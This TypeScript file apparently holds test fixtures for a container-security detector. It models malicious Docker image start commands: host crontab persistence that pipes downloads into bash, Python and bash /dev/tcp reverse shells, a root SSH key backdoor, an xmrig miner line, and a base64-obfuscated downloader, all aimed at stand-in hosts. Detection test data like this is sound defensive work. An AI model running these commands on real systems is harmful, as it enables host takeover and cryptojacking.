import { madeUpSshKey } from '../ssh-key.ts';
import { madeUpWallet } from '../wallet.ts';
import type { Incident } from './incident.ts';

const backdoorKey = madeUpSshKey('f04');

const pythonShell =
  'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.17",1496));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);';

/** f01: a job for the host's crontab without the user column, a "picture" piped into a shell (docker123321/mysql). */
export const f01: Incident = {
  id: 'f01',
  title: 'host crontab, 5 fields, downloads a picture and runs it',
  name: 'docker.io/docker123321/mysql:latest',
  command: 'echo "* * * * * curl -s http://203.0.113.147:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab; sleep infinity',
};

/** f02: six fields and a Python reverse shell (docker123321/tomcat). */
export const f02: Incident = {
  id: 'f02',
  title: 'host crontab, 6 fields, Python reverse shell',
  name: 'docker.io/docker123321/tomcat:latest',
  command: `echo -e "* * * * * root /usr/bin/python -c '${pythonShell.replaceAll('"', '\\"')}'\\n" >> /mnt/etc/crontab\nsleep infinity`,
};

/** f03: a bash reverse shell through /dev/tcp (docker123321/tomcat11). */
export const f03: Incident = {
  id: 'f03',
  title: 'host crontab, bash reverse shell',
  name: 'docker.io/docker123321/tomcat11:latest',
  command: `echo '* * * * * root bash -c "bash -i >& /dev/tcp/192.0.2.44/8443 0>&1"' >> /mnt/etc/crontab\nsleep infinity`,
};

/** f04: an SSH key for the root account of the host (docker123321/tomcat22). */
export const f04: Incident = {
  id: 'f04',
  title: "an SSH key for the host's root account",
  name: 'docker.io/docker123321/tomcat22:latest',
  command: `mkdir -p /mnt/root/.ssh\necho "${backdoorKey}" >> /mnt/root/.ssh/authorized_keys\nsleep infinity`,
};

/** f05: the whole miner command line in the start command of an image called nginx (ohldm/nginx). */
export const f05: Incident = {
  id: 'f05',
  title: 'a miner command line in an image called nginx',
  name: 'docker.io/someones/nginx:latest',
  command: `./xmrig --algo=cryptonight --url=stratum+tcp://pool.mine.example:5555 --user=${madeUpWallet('f05')} --pass=x --max-cpu-usage=100`,
};

/** f07: fetch tools installed at start, a script from the network piped into a shell, then idle (Kinsing). */
export const f07: Incident = {
  id: 'f07',
  title: 'installs wget and cron, pipes a download into a shell, then idles',
  name: 'docker.io/someones/ubuntu:latest',
  command:
    'apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - 203.0.113.191/d.sh | sh;tail -f /dev/null',
};

/** f08: base64 to a Python that fetches a script; the address is written with backslashes (Kiss-a-dog). */
export const f08: Incident = {
  id: 'f08',
  title: 'decodes Python that fetches and runs a script, address written with backslashes',
  name: 'docker.io/someones/app:latest',
  command: `echo ${Buffer.from(
    'import urllib2,os\ncode = urllib2.urlopen("http:\\\\\\\\files.example\\\\t.sh".replace("\\\\", "/")).read()\nos.system(code)\n',
  ).toString('base64')} | base64 -d | python; curl -sk http:\\\\\\\\files.example\\\\t.sh | bash`,
};
